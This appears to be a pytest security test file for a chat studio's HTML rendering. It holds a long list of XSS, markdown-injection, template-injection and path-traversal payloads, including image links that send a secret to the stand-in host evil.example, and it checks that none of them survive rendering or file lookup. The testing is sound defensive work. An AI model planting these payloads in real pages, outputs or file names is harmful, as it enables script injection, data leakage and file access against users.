"""Attacks through what a model, a tool, a file or a person wrote: the page shows them all, and runs and fetches none.

Every text is put into every place of a conversation at once. The HTML that comes of it is read back, and holds only the
elements and attributes that the studio itself draws.
"""

from __future__ import annotations

import json
import threading
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from glmstudio.chat import history, training_examples
from glmstudio.chat.conversation import Answer, Call, Conversation, from_json
from glmstudio.chat.tool_score import Change, ToolCounts, ToolScore
from glmstudio.errors import StudioError
from glmstudio.ui.chat import score_view
from glmstudio.ui.chat.chat_history import render_history
from glmstudio.ui.chat.chat_log import render_log
from glmstudio.ui.framework.markdown import formatted
from glmstudio.ui.state.conversations import OpenConversation
from glmstudio.ui.state.page_state import ChatState
from tests.marks import slow

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href=javascript:alert(1)>x</a>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</dd></dl></div><img src=x onerror=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" data-act=\"unload\" x=\"",
    "\" data-go=\"doctor",
    "<button data-act=always data-tool=interpreter>x</button>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example 'title\" onclick=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](http://evil.example/leak?q=secret)",
    "![x](x 'a\" onerror=\"alert(1)')",
    "![x][y]\n\n[y]: http://evil.example/leak",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "<mailto:a@evil.example>",
    "http://evil.example/auto",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| ![x](http://evil.example) | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "1. <script>alert(1)</script>\n   - <img src=x onerror=alert(1)>",
    "**<script>**alert(1)**</script>**",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "${alert(1)} `${alert(1)}`",
    "{0.__class__.__mro__} {text} {body}",
    "%s %(x)s %n",
    "{turn} {id} {key}",
    "\u202e<script>alert(1)</script>\u202c",
    "a" * 50_000,
    "[" * 3_000 + "x" + "](" * 3_000,
    "> " * 2_000 + "x",
    "- " * 2_000 + "x",
    "*" * 5_000 + "x" + "_" * 5_000,
    "`" * 5_000,
    "|" * 3_000 + "\n" + "|-" * 3_000,
    "<" * 5_000,
    "&" * 5_000,
    "\ud83d",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "/etc/passwd\x00.json",
    "__proto__",
    "constructor",
    "java\tscript:alert(1)",
]  # fmt: skip
ALLOWED = {
    "div", "span", "p", "b", "strong", "em", "code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead",
    "tbody", "tr", "th", "td", "blockquote", "hr", "br", "button", "textarea", "label", "input", "datalist", "option", "section",
    "header", "dl", "dt", "dd", "svg", "path", "circle", "g", "details", "summary", "select", "a",
}  # fmt: skip
ACTS = {
    "rename", "pin", "take-back", "ask", "edit", "edit-send", "retry", "branch", "look", "teach", "teach-keep", "leave", "run", "always", "refuse", "answer",
    "open", "delete", "score", "score-stop",
}  # fmt: skip
ATTRIBUTES = {
    "class", "role", "rows", "aria-label", "aria-live", "aria-hidden", "aria-current", "aria-valuemin", "aria-valuemax", "aria-valuenow",
    "tabindex", "title", "type", "value", "placeholder", "list", "id", "open", "hidden", "focusable", "viewbox", "width", "height", "d",
    "cx", "cy", "r", "fill", "stroke", "stroke-width", "stroke-opacity", "stroke-dasharray", "stroke-linecap", "stroke-linejoin", "start",
    "scope", "download", "style", "maxlength",
}  # fmt: skip


class Reader(HTMLParser):
    """Collects what is not the studio's own drawing."""

    def __init__(self) -> None:
        super().__init__()
        self.strange: list[Any] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.strange.append(tag)
        for name, value in attrs:
            if name == "href" and tag == "a" and str(value).startswith("/chats/2") and "evil" not in str(value):
                continue
            if name == "data-act" and value in ACTS:
                continue
            if name == "style" and tag in {"i", "th", "td"} and str(value).startswith(("width:", "text-align:")):
                continue
            if name == "style" or (not name.startswith("data-") and name not in ATTRIBUTES) or name == "data-act":
                self.strange.append((tag, name, value))


def strange(html: str) -> list[Any]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.strange


def everywhere(text: str) -> Conversation:
    """A conversation with the text in every place that somebody else fills."""
    dialogue = Conversation(title=text)
    dialogue.settings.system = text
    states = ("asked", "running", "done", "failed", "wrong", "refused", "answered", text)
    calls: list[str | Call] = [Call(text, text, {text: text, "deep": [{text: text}]}, state, text) for state in states]
    asked: list[dict[str, Any]] = [{"id": text, "type": "function", "function": {"name": text, "arguments": text}}]
    messages: list[dict[str, Any]] = [
        {"role": "assistant", "content": text, "tool_calls": asked},
        {"role": "tool", "tool_call_id": text, "content": text},
        {"role": "assistant", "content": text},
    ]
    answer = Answer(text, text, [text, *calls, text], messages, prompt_tokens=1, tokens=1, seconds=1.0, reason="stop")
    other = Answer(text, text, [text], [], problem=StudioError("chat.refused", reason=text))
    dialogue.ask(text, None).answers = [answer, other]
    return dialogue


@pytest.mark.parametrize(
    "text", [slow(each) if number % 3 else each for number, each in enumerate(ATTACKS)], ids=range(len(ATTACKS))
)
def test_a_conversation_shows_it_and_nothing_else(home: Path, text: str) -> None:
    dialogue = everywhere(text)
    opened = OpenConversation(dialogue, threading.Condition())
    last = str(dialogue.tip)
    for lang in ("en", "zh"):
        for view in (
            ChatState(),
            ChatState(edited=last),
            ChatState(taught=last),
            ChatState(taught=last, side=1),
        ):
            assert strange(render_log(lang, view, opened, {})) == []
        changes = [Change(1, text, text, text, text, better=True)]
        assert (
            strange(score_view._result(lang, ToolScore(text, 1, [ToolCounts(text, text)], changes, 1, 0), None)) == []
        )
    if text != "\ud83d":  # half a character is never written to a disk
        history.write(dialogue)
        assert strange(render_history("en", ChatState())) == []
        again = history.take_in(json.dumps(dialogue.to_json()))
        assert again.settings.system == text
        history.markdown(again)
        with pytest.raises(StudioError, match="A dataset cannot be named"):
            training_examples.keep({}, f"../{text}")


@pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
def test_the_name_of_a_conversation_leads_nowhere(home: Path, text: str) -> None:
    outside = home.parent / "secret.json"
    outside.write_text(json.dumps(Conversation().to_json()))
    for name in (text, f"../{text}", f"{text}/../../secret", "../../secret"):
        with pytest.raises(StudioError):
            history.read(name)
        history.delete(name)
    assert outside.exists()
    with pytest.raises(StudioError):
        from_json(Conversation().to_json() | {"id": f"{text}!"})


def test_code_that_is_shown_is_the_code_that_was_written() -> None:
    html = formatted("en", "```python\nprint('<b>' + \"${x}\")\n```")
    assert "print(&#39;&lt;b&gt;&#39; + &#34;&#36;&#123;x&#125;&#34;)" in html
